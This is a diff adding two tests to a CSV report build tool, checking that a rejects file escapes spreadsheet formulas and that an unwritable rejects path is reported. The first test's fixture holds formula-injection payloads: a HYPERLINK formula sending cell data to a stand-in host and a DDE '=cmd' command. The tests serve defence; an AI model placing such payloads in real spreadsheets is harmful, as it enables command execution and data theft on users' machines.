@@ -79,6 +79,36 @@ describe('kaoping build', () => {
 		});
 	});
 
+	it('writes --rejects into a folder it creates, with formula cells as text', async () => {
+		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
+			const bad = ['code,period,submitted_on,pop_total', '990999002201,2023-05,2023-06-01,=HYPERLINK("http://x/?"&A1;"点此")', "990999002201,2023-06,2023-07-01,=cmd|' /C calc'!A0"];
+			writeFileSync(join(input, 'reports', 'formula.csv'), bad.join('\n'));
+			const { fx, stderr } = recordingEffects();
+			const rejects = join(root, 'not', 'yet', 'rejects.csv');
+			const result = await build({ input, out: join(root, 'out'), rejects, allowRejects: false, maxErrors: 10, lang: 'en' }, fx);
+			expect(result.published).toBe(false);
+			expect(stderr()).toContain('reports/formula.csv:2: error:');
+			const text = readFileSync(rejects, 'utf8');
+			expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1;""点此"")"`);
+			expect(text).toContain(`'=cmd|' /C calc'!A0`);
+			// no cell of the file starts a formula
+			for (const line of text.slice(1).split('\r\n')) expect(line.split(',').some((c) => /^"?[=@]/.test(c)), line).toBe(false);
+		});
+	});
+
+	it('still prints every finding when the --rejects file cannot be written, naming its path', async () => {
+		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
+			writeFileSync(join(root, 'a-file'), '');
+			const rejects = join(root, 'a-file', 'rejects.csv'); // a folder that cannot be made
+			const { fx, stderr } = recordingEffects();
+			const result = await build({ input, out: join(root, 'out'), rejects, allowRejects: true, maxErrors: 10, lang: 'en' }, fx);
+			expect(result.published).toBe(false);
+			expect(stderr()).toContain('reports/jia-yicun.csv:2: error: column pop_total');
+			expect(stderr()).toContain(`${rejects}: error:`);
+			expect(result.issues.find((i) => i.rule === 'rejects_unwritable')?.file).toBe(rejects);
+		});
+	});
+
 	it('takes a corrected rejects file back as a report', async () => {
 		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
 			const { fx } = recordingEffects();
